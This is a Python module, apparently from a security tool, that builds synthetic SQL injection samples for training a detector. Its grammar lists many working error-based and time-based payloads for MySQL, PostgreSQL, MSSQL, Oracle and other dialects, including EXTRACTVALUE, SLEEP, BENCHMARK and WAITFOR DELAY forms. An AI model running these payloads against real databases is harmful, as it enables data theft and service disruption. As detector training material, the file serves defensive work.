"""SQL injection seen by errors or by time: functions of all dialects, heavy queries."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.sqli_base import POSTS, SQL
from securitai.train.corpora.kinds import COOKIE, HEADER, PATH, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
mark:
  0x7e
  0x5c
  0x3a
  0x71‹hextext›71
  '~'
  0xa
  '\\'
  '.'
sub:
  3×(‹scalar›)
  2×‹fn›
  md5(‹big›)
  (SELECT (ELT(‹x=n›=‹$x›,1)))
  (SELECT (CASE WHEN (‹x=n›=‹$x›) THEN 1 ELSE 0 END))
chrs:
  CHAR(‹#65-122›)||CHAR(‹#65-122›)||CHAR(‹#65-122›)
  CHR(113)||CHR(‹#97-122›)||CHR(‹#97-122›)||CHR(113)
  CHAR(113)+CHAR(‹#97-122›)+CHAR(‹#97-122›)+CHAR(113)
  '‹az4›'
errexp:
  3×EXTRACTVALUE(‹n›,CONCAT(‹mark›,‹sub›,‹mark›))
  3×UPDATEXML(‹n›,CONCAT(‹mark›,‹sub›,‹mark›),‹n›)
  extractvalue(rand(),concat(0x3a,‹sub›))
  updatexml(‹d1›,concat_ws(0x20,0x5c,‹sub›),0)
  EXP(~(SELECT * FROM (SELECT CONCAT(‹mark›,‹sub›,0x78))x))
  GTID_SUBSET(CONCAT(‹mark›,‹sub›,‹mark›),‹n›)
  GTID_SUBTRACT(‹sub›,‹n›)
  ST_LatFromGeoHash(‹sub›)
  ST_PointFromGeoHash(‹sub›,‹d1›)
  geometrycollection((select * from(select * from(‹scalar›)a)b))
  multipoint((select * from(select ‹fn›)f))
  polygon((select*from(select name_const(‹fn›,1))x))
  JSON_KEYS((SELECT CONVERT((SELECT CONCAT(‹mark›,‹sub›,‹mark›)) USING utf8)))
  (SELECT ‹n› FROM(SELECT COUNT(*),CONCAT(‹mark›,‹sub›,‹mark›,FLOOR(RAND(0)*2))x FROM ‹table› GROUP BY x)a)
  (select 1 from (select count(*),concat(‹sub›,floor(rand(0)*2))x from information_schema.tables group by x)a)
  ROW(‹n›,‹n›)>(SELECT COUNT(*),CONCAT(‹mark›,‹sub›,FLOOR(RAND(0)*2))x FROM (SELECT ‹n› UNION SELECT ‹n›)a GROUP BY x)
  CAST(‹sub› AS ‹INT¦NUMERIC¦int¦numeric¦bigint¦date›)
  CAST((‹chrs›)||(‹scalar›)::text||(‹chrs›) AS NUMERIC)
  CONVERT(INT,(SELECT ‹chrs›+(‹scalar›)+‹chrs›))
  convert(int,‹fn›)
  convert(int,(select top 1 ‹col› from ‹table›))
  1/(‹scalar›)
  1/0
  db_name()/0
  HASHBYTES('MD5',‹sub›)/0
  CTXSYS.DRITHSX.SN(‹n›,‹sub›)
  UTL_INADDR.GET_HOST_ADDRESS(‹sub›)
  utl_inaddr.get_host_name((select banner from v$version where rownum=1))
  ORDSYS.ORD_DICOM.GETMAPPINGXPATH(‹sub›,‹d1›,‹d1›)
  DBMS_UTILITY.SQLID_TO_SQLHASH((‹chrs›||‹sub›||‹chrs›))
  dbms_xdb_version.checkin(‹sub›)
  dbms_xmlgen.getxml('‹scalar›')
  (SELECT UPPER(XMLType(CHR(60)||CHR(58)||‹chrs›||‹sub›||CHR(62))) FROM DUAL)
  to_number(‹sub›)
  XMLType('<'||‹sub›||'>')
  json_value('{}','$.‹az›'||‹sub› error on error)
  RAISE_ERROR('‹n›',‹sub›)
  load_extension('‹az›',‹sub›)
  abs(-9223372036854775808)
  json_extract('{}',‹sub›)
  toInt32(‹sub›)
  throwIf(‹cond›,‹sub›)
  TRUNCATE(‹sub›,‹d1›)
  char(‹n›)+(‹scalar›)
  query_to_xml('‹scalar›',true,true,'')
  database_to_xml(true,true,'')
error:
  5×‹out› ‹op› ‹errexp›‹end›
  4×‹out› ‹op› ‹n›=‹errexp›‹end›
  2×‹out›,‹errexp›‹end›
  2×‹errexp›
  ‹outq›||‹errexp›||'
  ‹outq›-‹errexp›-'
  ‹out› ‹op› ‹n›>‹errexp›‹end›
  ‹out› ‹op› ‹n› in (‹errexp›)‹end›
  ‹out› PROCEDURE ANALYSE(‹errexp›,1)‹end›
  ‹out› order by ‹d1›,‹errexp›‹cm›
  (SELECT ‹n› WHERE ‹n›=‹errexp›)
  ‹outq›,‹col›=‹errexp› where ‹cond›‹cm›
  ‹outq›),(‹errexp›)‹cm›
  0||(‹errexp›)
  ‹pre›" and ‹errexp› and "‹x=az›"="‹$x›
  @`'`,‹errexp›,@`'`
delay:
  5×SLEEP(‹#1-30›)
  sleep(‹#1-9›.‹#0-99›)
  sleep(‹#1-30›)#
  2×BENCHMARK(‹#1-90›000000,MD5('‹az4›'))
  benchmark(‹#10000000-50000000›,‹sha1¦md5¦encode¦sha2¦rand›(‹n›))
  2×(SELECT ‹n› FROM (SELECT(SLEEP(‹#1-30›)))‹az4›)
  (SELECT SLEEP(‹#1-30›))
  (select*from(select(sleep(‹#1-30›)))a)
  (SELECT ‹n› FROM (SELECT(SLEEP(‹#1-30›-(IF(‹n›=‹n›,0,‹#1-30›)))))‹az4›)
  (SELECT * FROM (SELECT(BENCHMARK(5000000,MD5('‹az4›'))))‹az4›)
  if(‹cond›,sleep(‹#1-30›),‹d1›)
  IF(ASCII(SUBSTRING((‹scalar›),‹#1-30›,1))>‹#32-127›,SLEEP(‹#1-30›),0)
  (case when ‹cond› then sleep(‹#1-30›) else ‹n› end)
  elt(‹cond›,sleep(‹#1-30›))
  rlike sleep(‹#1-30›)
  2×PG_SLEEP(‹#1-30›)
  2×(SELECT ‹n› FROM PG_SLEEP(‹#1-30›))
  (select pg_sleep(‹#1-30›))
  (SELECT CASE WHEN ‹cond› THEN pg_sleep(‹#1-30›) ELSE pg_sleep(0) END)
  (SELECT COUNT(*) FROM GENERATE_SERIES(1,‹#1-9›000000))
  (select 1 from pg_sleep(‹#1-30›) where ‹cond›)
  pg_sleep_for('‹#1-30› seconds')
  2×DBMS_PIPE.RECEIVE_MESSAGE(‹chrs›,‹#1-30›)
  dbms_pipe.receive_message(('‹c›'),‹#1-30›)
  DBMS_LOCK.SLEEP(‹#1-30›)
  DBMS_SESSION.SLEEP(‹#1-30›)
  UTL_INADDR.get_host_name('10.0.0.‹#1-254›')
  (SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)
  (SELECT COUNT(*) FROM SYSUSERS AS sys1,SYSUSERS AS sys2,SYSUSERS AS sys3,SYSUSERS AS sys4,SYSUSERS AS sys5)
  (SELECT COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS A, INFORMATION_SCHEMA.COLUMNS B, INFORMATION_SCHEMA.COLUMNS C)
  (SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3,RDB$FUNCTIONS AS T4)
  (SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)
  (SELECT COUNT(*) FROM SYSMASTER:SYSPAGHDR)
  (SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2,DOMAIN.TABLES AS T3)
  LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(‹#1-9›00000000/2))))
  randomblob(‹#100000000-900000000›)
  REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(‹n›),0),500000000),NULL)
  REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(CHAR(65)||CHAR(69)||CHAR(83),NULL),0),500000000),NULL)
  REPEAT(RPAD('‹c›',‹n›,'‹c›'),‹n›) RLIKE CONCAT(REPEAT('(‹c›.*)+',30),'‹c›')
  sleepEachRow(‹#1-3›)
  (select count(*) from numbers(‹big›))
  get_lock('‹az›',‹#1-30›)
  CALL "java.lang.Thread.sleep"(‹big›)
  XMLTYPE(DBMS_XMLGEN.getxml('‹scalar›'))
  WAIT FOR SECOND ‹#1-9›
time:
  5×‹out› ‹op› ‹delay›‹end›
  4×‹out› ‹op› ‹n›=‹delay›‹end›
  2×‹outq›||‹delay›||'
  ‹outq›-‹delay›-'
  ‹outq›+‹delay›+'
  ‹outq›^‹delay›^'
  ‹outq›*‹delay›*'
  ‹out›-‹delay›
  2×‹delay›
  ‹out›;SELECT ‹delay›‹cm›
  ‹out›,‹delay›‹end›
  ‹outq›=‹delay›='
  ‹out› or ‹delay›‹sp›or '
  3×‹out›;WAITFOR DELAY '0:0:‹#1-30›'‹cm›
  2×‹out› WAITFOR DELAY '0:0:‹#1-30›'‹end›
  ‹out› if(‹cond›) waitfor delay '0:0:‹#1-30›'‹cm›
  ‹out›;IF(‹cond›) WAITFOR DELAY '0:0:‹#1-30›' ELSE SELECT ‹n›‹cm›
  ‹out›; if not(substring((select @@version),‹#1-30›,1) <> ‹d1›) waitfor delay '0:0:2'‹cm›
  waitfor time '‹#10-23›:‹#10-59›'‹cm›
  ‹out›;declare @‹az› varchar(99) set @‹az›='00:00:‹#10-30›' waitfor delay @‹az›‹cm›
  ‹out›;SELECT CASE WHEN ‹cond› THEN ‹delay› ELSE ‹n› END‹cm›
  ‹out› AND 'RANDSTR'||‹delay›='‹az4›
  (CASE WHEN ‹cond› THEN ‹delay› ELSE ‹n› END)
  0'XOR(if(now()=sysdate(),sleep(‹#1-30›),0))XOR'Z
  0"XOR(if(now()=sysdate(),sleep(‹#1-30›),0))XOR"Z
  if(now()=sysdate(),sleep(‹#1-30›),0)
  (select(0)from(select(sleep(‹#1-30›)))v)/*'+(select(0)from(select(sleep(‹#1-30›)))v)+'"+(select(0)from(select(sleep(‹#1-30›)))v)+"*/
  -1 OR 5*5=25 AND ‹delay›‹cm›
  1 procedure analyse(extractvalue(rand(),concat(0x3a,‹delay›)),1)
  ‹out›;begin dbms_lock.sleep(‹#1-30›); end;‹cm›
  ‹out› and ‹delay› and '‹x=az›'='‹$x›
  ‹pre›'+if(benchmark(‹#1-9›000000,MD5(1)),NULL,NULL))‹cm›
  ‹pre›',NULL,NULL) waitfor delay '0:0:‹#1-30›'‹cm›
  ‹pre›"+if(‹delay›,NULL,NULL),NULL,NULL)‹cm›
""",
    SQL,
)
_ALL = (VALUE, COOKIE, HEADER, PATH)
KINDS = (
    AttackKind("sqli.error", Category.SQLI, _G.maker("error", *POSTS), 4.0, _ALL),
    AttackKind("sqli.time", Category.SQLI, _G.maker("time", *POSTS), 4.0, _ALL),
)
